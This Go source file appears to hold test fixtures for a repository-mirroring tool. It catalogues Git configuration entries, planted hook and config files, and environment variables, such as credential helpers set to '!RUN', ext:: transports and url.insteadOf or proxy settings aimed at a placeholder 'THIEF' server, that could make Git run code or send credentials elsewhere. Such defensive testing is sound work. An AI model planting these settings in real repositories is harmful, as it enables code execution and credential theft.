// The ways in which files of a repository, and variables of whoever runs it, steer Git.

package mirror

import "strings"

// plant is one way to steer Git from inside a mirror. RUN is a program that leaves a mark
// and what it hears in the folder LOOT, THIEF the address of somebody else's server,
// URL and HOST the remote's, DIR the mirror.
type plant struct {
	config string            // lines after the mirror's own configuration
	files  map[string]string // in the mirror; they may be run
	env    map[string]string // of whoever starts Vishwa
	on     string            // what the remote is reached by; "" is http
	raced  bool              // Git heeds it where it is planted after the seal, but no credentials go there
	deaf   bool              // this version of Git, or a bare repository, does not heed it anyway
}

var plants = map[string]plant{
	"credential.helper":            {config: "[credential]\n\thelper = !RUN"},
	"credential.URL.helper":        {config: "[credential \"URL\"]\n\thelper = !RUN"},
	"credential.HOST.helper":       {config: "[credential \"http://HOST\"]\n\thelper = !RUN"},
	"include.path":                 {config: "[include]\n\tpath = LOOT/../more", files: map[string]string{"../more": "[credential]\n\thelper = !RUN\n"}},
	"includeIf":                    {config: "[includeIf \"gitdir:**\"]\n\tpath = LOOT/../more", files: map[string]string{"../more": "[credential]\n\thelper = !RUN\n"}},
	"config.worktree":              {config: "[extensions]\n\tworktreeConfig = true", files: map[string]string{"config.worktree": "[credential]\n\thelper = !RUN\n"}},
	"commondir":                    {files: map[string]string{"commondir": "LOOT/../common\n", "../common/config": "[core]\n\tbare = true\n[remote \"origin\"]\n\turl = URL\n[credential]\n\thelper = !RUN\n", "../common/HEAD": head, "../common/refs/x": "", "../common/objects/x": ""}},
	"core.askPass":                 {config: "[core]\n\taskPass = RUN"},
	"core.hooksPath":               {config: "[core]\n\thooksPath = LOOT/../hooks", files: map[string]string{"../hooks/reference-transaction": "#!/bin/sh\nRUN\n", "../hooks/pre-push": "#!/bin/sh\nRUN\n"}},
	"hooks":                        {files: map[string]string{"hooks/reference-transaction": "#!/bin/sh\nRUN\n", "hooks/pre-push": "#!/bin/sh\nRUN\n"}},
	"core.fsmonitor":               {config: "[core]\n\tfsmonitor = RUN", deaf: true},
	"core.sshCommand":              {config: "[core]\n\tsshCommand = RUN", on: "ssh"},
	"core.gitProxy":                {config: "[core]\n\tgitProxy = RUN\n[url \"git://HOST/\"]\n\tinsteadOf = http://HOST/"},
	"core.alternateRefsCommand":    {config: "[core]\n\talternateRefsCommand = RUN", files: map[string]string{"objects/info/alternates": "OTHER/objects\n"}},
	"objects/info/alternates":      {files: map[string]string{"objects/info/alternates": "OTHER/objects\n"}, deaf: true},
	"objects/info/http-alternates": {files: map[string]string{"objects/info/http-alternates": "THIEF/objects\n"}, deaf: true},
	"url.insteadOf":                {config: "[url \"THIEF/\"]\n\tinsteadOf = http://HOST/", raced: true},
	"url.insteadOf of the same":    {config: "[url \"THIEF/remote.git\"]\n\tinsteadOf = URL", raced: true},
	"url.pushInsteadOf":            {config: "[url \"THIEF/\"]\n\tpushInsteadOf = http://HOST/", raced: true},
	"url.insteadOf a program":      {config: "[url \"ext::RUN \"]\n\tinsteadOf = URL\n[protocol]\n\tallow = always"},
	"remote.origin.url":            {config: "[remote \"origin\"]\n\turl = THIEF/remote.git", deaf: true}, // the first is asked
	"remote.origin.pushurl":        {config: "[remote \"origin\"]\n\tpushurl = THIEF/remote.git", raced: true},
	"remote.origin.proxy":          {config: "[remote \"origin\"]\n\tproxy = THIEF"},
	"remote.origin.vcs":            {config: "[remote \"origin\"]\n\tvcs = ext\n\turl = RUN\n[protocol]\n\tallow = always", deaf: true},
	"remote.origin.uploadpack":     {config: "[remote \"origin\"]\n\tuploadpack = RUN", on: "file"},
	"remote.origin.receivepack":    {config: "[remote \"origin\"]\n\treceivepack = RUN", on: "file"},
	"remotes/origin":               {config: "[remote \"origin\"]\n\turl =", files: map[string]string{"remotes/origin": "URL: THIEF/remote.git\n"}, deaf: true},
	"branches/origin":              {files: map[string]string{"branches/origin": "THIEF/remote.git\n"}, deaf: true},
	"http.proxy":                   {config: "[http]\n\tproxy = THIEF"},
	"http.URL.proxy":               {config: "[http \"URL\"]\n\tproxy = THIEF"},
	"http.extraHeader":             {config: "[http]\n\textraHeader = X-Planted: yes"},
	"http.URL.extraHeader":         {config: "[http \"URL\"]\n\textraHeader = X-Planted: yes"},
	"http.cookieFile":              {config: "[http]\n\tcookieFile = LOOT/../cookies", files: map[string]string{"../cookies": "Set-Cookie: planted=yes; path=/\n"}},
	"http.sslVerify":               {config: "[http]\n\tsslVerify = false\n[http \"URL\"]\n\tsslVerify = false", deaf: true}, // see TestNobodyWithoutACertificate
	"http.sslCAInfo":               {config: "[http]\n\tsslCAInfo = LOOT/none\n\tsslCAPath = LOOT/none", deaf: true},
	"http.curloptResolve":          {config: "[http]\n\tcurloptResolve = HOSTNAME:1:127.0.0.9", deaf: true},
	"filter":                       {config: "[filter \"x\"]\n\tclean = RUN\n\tsmudge = RUN\n\trequired = true", files: map[string]string{"info/attributes": "* filter=x\n"}, deaf: true},
	"merge.driver":                 {config: "[merge \"x\"]\n\tdriver = RUN", files: map[string]string{"info/attributes": "* merge=x\n"}, raced: true},
	"core.attributesFile":          {config: "[core]\n\tattributesFile = LOOT/../attributes\n[merge \"x\"]\n\tdriver = RUN", files: map[string]string{"../attributes": "* merge=x\n"}},
	"diff.textconv":                {config: "[diff]\n\texternal = RUN\n[diff \"x\"]\n\ttextconv = RUN\n\tcommand = RUN", files: map[string]string{"info/attributes": "* diff=x\n"}, deaf: true},
	"gpg.program":                  {config: "[gpg]\n\tprogram = RUN\n[push]\n\tgpgSign = if-asked\n[commit]\n\tgpgSign = true", deaf: true},
	"gc and maintenance":           {config: "[gc]\n\tauto = 1\n\tautoDetach = false\n\tpruneExpire = now\n\trecentObjectsHook = RUN\n[maintenance]\n\tauto = true", deaf: true},
	"submodule.recurse":            {config: "[submodule]\n\trecurse = true\n[fetch]\n\trecurseSubmodules = true\n[push]\n\trecurseSubmodules = only", deaf: true},
	"transfer.fsckObjects":         {config: "[transfer]\n\tfsckObjects = false\n[fetch]\n\tfsckObjects = false\n\tunpackLimit = 0\n[fetch \"fsck\"]\n\tskipList = LOOT/none", deaf: true},
	"protocol.allow":               {config: "[protocol]\n\tallow = never\n[protocol \"http\"]\n\tallow = never\n[protocol \"file\"]\n\tallow = never", deaf: true},
	"core.worktree":                {config: "[core]\n\tbare = false\n\tworktree = LOOT", deaf: true},
	"alias":                        {config: "[alias]\n\tfetch = !RUN\n\tpush = !RUN\n\tmerge-tree = !RUN", deaf: true},
	"core.pager":                   {config: "[core]\n\tpager = RUN\n\teditor = RUN\n[pager]\n\tfetch = RUN", deaf: true},
	"info/grafts":                  {files: map[string]string{"info/grafts": strings.Repeat("1", 40) + "\n", "shallow": ""}, deaf: true},
	"refs/replace":                 {files: map[string]string{"refs/replace/" + strings.Repeat("1", 40): strings.Repeat("2", 40) + "\n"}, deaf: true},
	"commit-graph":                 {files: map[string]string{"objects/info/commit-graph": "CGPH\x01\x01\x00\x00"}, deaf: true},
	"a configuration cut short":    {config: "[core", deaf: true},
	".netrc of a home":             {files: map[string]string{"../.netrc": "machine HOSTNAME login eve password planted\n"}, env: map[string]string{"HOME": "LOOT/.."}, deaf: true},
	"the user's configuration":     {files: map[string]string{"../.gitconfig": "[credential]\n\thelper = !RUN\n", "../git/config": "[credential]\n\thelper = !RUN\n"}, env: map[string]string{"HOME": "LOOT/..", "XDG_CONFIG_HOME": "LOOT/.."}},
	"GIT_CONFIG_GLOBAL":            {files: map[string]string{"../more": "[credential]\n\thelper = !RUN\n"}, env: map[string]string{"GIT_CONFIG_GLOBAL": "LOOT/../more"}},
	"GIT_CONFIG_COUNT":             {env: map[string]string{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "credential.helper", "GIT_CONFIG_VALUE_0": "!RUN"}},
	"GIT_CONFIG_PARAMETERS":        {env: map[string]string{"GIT_CONFIG_PARAMETERS": "'credential.helper'='!RUN'"}},
	"GIT_ASKPASS":                  {env: map[string]string{"GIT_ASKPASS": "RUN"}},
	"SSH_ASKPASS":                  {env: map[string]string{"SSH_ASKPASS": "RUN", "DISPLAY": ":9"}},
	"GIT_SSH_COMMAND":              {env: map[string]string{"GIT_SSH_COMMAND": "RUN"}, on: "ssh"},
	"GIT_SSH":                      {env: map[string]string{"GIT_SSH": "RUN"}, on: "ssh"},
	"GIT_PROXY_COMMAND":            {env: map[string]string{"GIT_PROXY_COMMAND": "RUN"}, deaf: true},
	"GIT_EXEC_PATH":                {files: map[string]string{"../exec/git-remote-http": "#!/bin/sh\nRUN\n"}, env: map[string]string{"GIT_EXEC_PATH": "LOOT/../exec"}},
	"GIT_EXTERNAL_DIFF":            {env: map[string]string{"GIT_EXTERNAL_DIFF": "RUN"}, deaf: true},
	"GIT_OBJECT_DIRECTORY":         {env: map[string]string{"GIT_OBJECT_DIRECTORY": "LOOT", "GIT_ALTERNATE_OBJECT_DIRECTORIES": "OTHER/objects", "GIT_WORK_TREE": "LOOT", "GIT_INDEX_FILE": "LOOT/index"}, deaf: true},
	"GIT_TRACE":                    {env: map[string]string{"GIT_TRACE_CURL": "LOOT/trace", "GIT_TRACE": "LOOT/trace", "GIT_TRACE2_EVENT": "LOOT/trace", "GIT_TRACE_PACKET": "LOOT/trace"}},
}
